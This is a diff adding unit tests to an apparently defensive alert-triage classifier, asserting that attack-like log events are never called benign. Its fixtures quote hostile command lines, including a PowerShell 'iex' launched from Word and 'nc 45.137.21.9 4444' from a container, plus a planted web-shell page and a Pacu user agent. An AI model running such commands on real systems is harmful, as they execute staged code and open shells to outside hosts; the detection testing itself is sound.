@@ -365,6 +365,101 @@ describe('rules on events with a calming fact', () => {
   });
 });
 
+describe('rules on attacks that look like log lines', () => {
+  const event = (id: number, event_data: RawData) => ({
+    winlog: { channel: 'Security', computer_name: 'SRV-1', event_id: id, event_data },
+  });
+  const logon = (more: RawData) => ({
+    ...event(4624, { TargetUserName: 'Administrator', IpAddress: '45.137.21.9', ...more }),
+    event: { code: '4624', outcome: 'success' },
+    message: 'An account was successfully logged on.',
+  });
+  const cloud = (eventName: string) => ({
+    ...{ eventName, eventType: 'AwsApiCall', sourceIPAddress: '185.220.101.34' },
+    userIdentity: { type: 'IAMUser', userName: 'deploy-legacy' },
+  });
+  it.each<[string, RawData]>([
+    [
+      'Word starts a shell',
+      event(1, {
+        Image: 'C:\\Windows\\System32\\cmd.exe',
+        CommandLine: 'cmd.exe /c start /min powershell -w 1 -c "gc $env:TEMP\\a.txt | iex"',
+        ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+      }),
+    ],
+    ['a remote desktop from the internet', logon({ SubjectUserName: 'SRV-1$', LogonType: '10' })],
+    ['a network logon from the internet', logon({ LogonType: '3' })],
+    [
+      'a role that its owner activates from Tor',
+      {
+        activityDisplayName: 'Add member to role completed (PIM activation)',
+        ...{ category: 'RoleManagement', result: 'success', resultReason: 'CHG-20114 window' },
+        initiatedBy: {
+          user: { userPrincipalName: 'adm@one.example', ipAddress: '185.220.101.34' },
+        },
+      },
+    ],
+    [
+      'netcat in a container',
+      {
+        ...{ rule: 'Launch Suspicious Network Tool in Container', priority: 'Notice' },
+        output_fields: { 'proc.cmdline': 'nc 45.137.21.9 4444', 'user.name': 'www-data' },
+      },
+    ],
+    [
+      'many accounts locked out',
+      {
+        ...event(4740, { SubjectUserName: 'DC01$', TargetDomainName: 'LT-2201' }),
+        ...{ distinct_accounts: 37, message: '37 user accounts were locked out.' },
+      },
+    ],
+    [
+      'a page that a web server writes',
+      event(11, {
+        Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
+        TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx',
+        User: 'CONTOSO\\svc_web',
+      }),
+    ],
+    [
+      'a new process that Windows records',
+      event(4688, {
+        SubjectUserName: 'h.wagner',
+        NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    ],
+    [
+      'a password that a colleague resets',
+      {
+        ...event(4724, { TargetUserName: 'adm-keller', SubjectUserName: 'h.wagner' }),
+        event: { code: '4724', outcome: 'success' },
+      },
+    ],
+    ['a factor that is removed', cloud('DeactivateMFADevice')],
+    ['a key that will be deleted', cloud('ScheduleKeyDeletion')],
+    [
+      'refused calls of an attack tool',
+      {
+        ...{ ...cloud('GetAccountAuthorizationDetails'), errorCode: 'AccessDenied' },
+        userAgent: 'Boto3/1.34.51 Linux/6.6.9-kali (Pacu 1.5)',
+      },
+    ],
+  ])('do not call it benign: %s', async (_, rawData) => {
+    for (const severity of ['low', 'medium'] as const) {
+      const { classification } = await judge(rawData, severity);
+      expect({ severity, classification }).not.toMatchObject({ classification: 'benign' });
+    }
+  });
+
+  it('call it benign with lower confidence if only one fact shows the purpose', async () => {
+    const update = { eventType: 'user.session.end', severity: 'INFO', user: 'ann', ip: '10.1.2.3' };
+    const one = await judge(update, 'low');
+    expect(one).toMatchObject({ classification: 'benign', confidence: 0.8 });
+    const two = await judge({ ...update, isManaged: true, mfaResult: 'success' }, 'low');
+    expect(two).toMatchObject({ classification: 'benign', confidence: 0.9 });
+  });
+});
+
 describe('rules on machines, accounts and servers', () => {
   it.each<[string, string, RawData]>([
     [
